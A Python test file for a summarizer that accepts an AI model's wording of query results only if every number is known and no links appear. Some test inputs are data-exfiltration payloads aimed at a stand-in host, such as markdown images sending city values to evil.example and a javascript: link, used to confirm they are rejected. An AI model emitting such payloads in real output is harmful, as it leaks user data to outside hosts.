"""A summary in a model's words is taken only if every number in it is known, and it never fails an answer."""

from __future__ import annotations

import json
from collections.abc import Sequence
from dataclasses import dataclass, field
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from querybus.core.catalog import Catalog, Column, ColumnKind, Dialect, Table
from querybus.core.envelope import Audience, Delivery, Envelope
from querybus.core.failure import Failure, FailureCode
from querybus.core.messages import (
    Concluded,
    Finished,
    Outcome,
    Result,
    ResultColumn,
)
from querybus.core.options import Options
from querybus.core.policy import Connection, ConnectionPolicy
from querybus.core.subjects import EventName, StageName
from querybus.llm.dialogue import ChatMessage, ModelReply
from querybus.ops.live_texts import BadText
from querybus_presenter.present import present
from querybus_presenter.summaries.claimed_numbers import known_numbers, unknown_numbers
from querybus_presenter.summaries.model_summary import Summarizer, load_prompts
from querybus_presenter.wording.texts import load_texts

WORDS = load_texts()
CATALOG = Catalog(
    connection="shop",
    dialect=Dialect.SQLITE,
    tables=(
        Table(
            name="cust_tbl",
            columns=(
                Column(name="cty", type="TEXT", kind=ColumnKind.TEXT, display_names={"en": "city", "zh": "城市"}),
                Column(name="rev_amt", type="REAL", kind=ColumnKind.NUMBER, display_names={"en": "revenue"}),
            ),
        ),
    ),
)
ROWS = (("Lyon", 52400.5), ("Bern", 31200.0), ("Oslo", 48900.25))


@dataclass
class Model:
    """A chat model of one reply that keeps what it was asked."""

    says: ModelReply | Failure
    received: list[Sequence[ChatMessage]] = field(default_factory=list[Sequence[ChatMessage]])

    async def reply(
        self, messages: Sequence[ChatMessage], *, timeout_seconds: float, model: str | None = None, tenant: str = ""
    ) -> ModelReply | Failure:
        assert timeout_seconds > 0
        assert tenant == "acme"
        self.received.append(messages)
        return self.says


@dataclass
class Stores:
    """The catalog and one connection."""

    policy: ConnectionPolicy | None = field(default_factory=ConnectionPolicy)

    async def read(self, connection: str) -> Catalog | None:
        return CATALOG

    async def get(self, name: str) -> Connection | None:
        if self.policy is None:
            return None
        return Connection(name=name, dialect=Dialect.SQLITE, policy=self.policy)


def said(text: str, *, is_cut: bool = False) -> ModelReply:
    return ModelReply(text, 10, 10, "stub", is_cut)


def a_conclusion(audience: Audience = "analyst", **options: object) -> Envelope[Concluded]:
    columns = (
        ResultColumn(name="cty", kind=ColumnKind.TEXT),
        ResultColumn(name="rev_amt", kind=ColumnKind.NUMBER),
    )
    return Envelope[Concluded](
        event=EventName.CONCLUDED,
        query_id="01900000-0000-7000-8000-000000000001",
        thread_id="01900000-0000-7000-8000-000000000001",
        tenant="acme",
        user="ana",
        audience=audience,
        connection="shop",
        question="revenue by city in 2023",
        language="en",
        options=Options.model_validate(options),
        asked_at=0,
        deadline_at=60_000,
        body=Concluded(
            outcome=Outcome.ANSWERED,
            stage=StageName.EXECUTOR,
            sql="SELECT cty, rev_amt FROM cust_tbl",
            dialect=Dialect.SQLITE,
            result=Result(columns=columns, rows=ROWS, row_count=3),
        ),
    )


async def summary_of(
    summarizer_model: Model,
    *,
    audience: Audience = "analyst",
    stores: Stores | None = None,
    now_ms: int = 0,
    **options: object,
) -> str:
    stores = stores or Stores()
    summarizer = Summarizer(summarizer_model, stores, prompts=load_prompts(), seconds_max=8)
    envelope = a_conclusion(audience, **options)
    finished: Envelope[Finished] = await present(
        envelope, Delivery(1, 1, now_ms), catalogs=stores, words=WORDS, summarizer=summarizer
    )
    assert finished.body.answer.outcome is Outcome.ANSWERED
    assert finished.body.answer.rows == ROWS
    # What was asked of the model is counted, whether its words are taken or not; business readers read none of it.
    tokens = 0 if isinstance(summarizer_model.says, Failure) else 20
    calls = len(summarizer_model.received)
    assert (finished.model_use.calls, finished.model_use.tokens) == (calls, calls * tokens)
    if calls:
        assert finished.body.answer.model_use == (None if audience == "business" else finished.model_use)
    return finished.body.answer.summary


@pytest.mark.parametrize(
    "text",
    [
        "Lyon leads with 52,400.5, ahead of Oslo and Bern; the 3 cities are ranked.",
        "In 2023 Bern had the lowest of the three, 31200.",
        "Lyon's figure (52,400.5) is the highest – ahead of “Oslo” & Bern; see e.g. Oslo/Bern, U.S. aside: Lyon.",
    ],
)
@pytest.mark.requirement("000.33")
async def test_words_whose_numbers_are_all_known_are_taken(text: str) -> None:
    assert await summary_of(Model(said(text))) == text


@pytest.mark.parametrize(
    "text",
    [
        "Lyon leads with 52,401.",
        "Lyon leads with about 52 thousand.",
        "Lyon made 1.7 times as much as Bern.",
        "Lyon made twice as much as Bern.",
        "Seven cities were compared.",
        "Lyon made USD52401.",
        "Lyon made half of it.",
        "Revenue rose by 12% since 2022.",
        "See https://example.org for more.",
        "Lyon leads. ![s](//evil.example/s?x=Oslo)",
        "Lyon leads. ![s](/\\evil.example/s)",
        "Lyon leads, see [here](ftp://evil.example).",
        "Lyon leads. <img src=//evil.example/x>",
        "Lyon leads. ![x](HTTP&colon;//evil.example/x)",
        "Lyon leads, see evil.example/s?x=Oslo.",
        "Lyon leads, see javascript:alert(Oslo).",
        "Lyon leads, write to oslo@evil.example.",
        "Lyon leads, see //evil",
        "Lyon **leads**.",
        "```sql\nSELECT 1```",
        "里昂最高。",
        "",
        "Lyon leads. " * 100,
    ],
)
async def test_words_that_state_what_nobody_knows_leave_the_faithful_summary(text: str) -> None:
    reported = await summary_of(Model(said(text)))
    assert reported.startswith("Highest revenue")
    assert "52,400.5" in reported


@pytest.mark.parametrize(
    "reply",
    [Failure.of(FailureCode.MODEL_UNAVAILABLE, "timeout"), said("Lyon leads with 52,400.5", is_cut=True)],
    ids=["down", "cut"],
)
@pytest.mark.requirement("000.35")
async def test_a_model_that_fails_never_fails_the_answer(reply: ModelReply | Failure) -> None:
    assert (await summary_of(Model(reply))).startswith("Highest revenue")


@pytest.mark.parametrize(
    ("stores", "options"),
    [
        (Stores(ConnectionPolicy(allow_llm_to_see_data=False)), {}),
        (Stores(None), {}),
        (Stores(), {"allow_llm_to_see_data": False}),
        (Stores(), {"summary": False}),
        (Stores(), {"model": "builtin"}),
    ],
    ids=["the connection forbids it", "unknown connection", "the request forbids it", "switched off", "no model"],
)
@pytest.mark.requirement("000.36")
async def test_a_model_that_may_not_see_the_data_is_not_asked(stores: Stores, options: dict[str, Any]) -> None:
    model = Model(said("Lyon leads with 52,400.5."))
    await summary_of(model, stores=stores, **options)
    assert model.received == []


async def test_without_time_the_model_is_not_asked() -> None:
    model = Model(said("Lyon leads with 52,400.5."))
    assert (await summary_of(model, now_ms=59_500)).startswith("Highest revenue")
    assert model.received == []


@pytest.mark.requirement("000.33")
async def test_the_model_gets_facts_and_a_sample_and_no_technical_name() -> None:
    model = Model(said("Lyon leads with 52,400.5."))
    await summary_of(model, audience="business")
    system, user = model.received[0]
    assert system.role == "system"
    facts = json.loads(user.text)
    assert facts["columns"] == ["city", "revenue"]
    assert facts["first_rows"] == [list(row) for row in ROWS]
    assert "rev_amt" not in user.text
    assert "cust_tbl" not in user.text


async def test_words_that_give_a_name_away_are_not_shown_to_business_readers() -> None:
    reported = await summary_of(Model(said("The column rev_amt of cust_tbl is highest for Lyon.")), audience="business")
    assert "rev_amt" not in reported


@given(st.decimals(min_value=0, max_value=10**9, places=2, allow_nan=False), st.sampled_from(["en", "zh"]))
@settings(max_examples=200, deadline=None)
def test_a_number_is_fit_exactly_if_it_is_known(number: Decimal, language: str) -> None:
    text = {"en": f"Lyon made {number:,} in all.", "zh": f"里昂共计{number:,}元。"}[language]
    assert unknown_numbers(text, known_numbers([f"{number}"])) == ()
    other = number + 1
    assert unknown_numbers(text, known_numbers([f"{other}"])) != ()


@pytest.mark.requirement("002.7")
def test_the_prompt_of_summaries_is_replaced_by_a_file_of_its_name(tmp_path: Path) -> None:
    (tmp_path / "summary.zh.md").write_text("用一句话总结。")
    replaced = load_prompts(tmp_path)
    assert (replaced["zh"], replaced["en"]) == ("用一句话总结。", load_prompts()["en"])
    (tmp_path / "summary.en.md").write_bytes(b"In one\n\xff sentence")
    with pytest.raises(BadText, match=r"summary\.en\.md:2"):
        load_prompts(tmp_path)
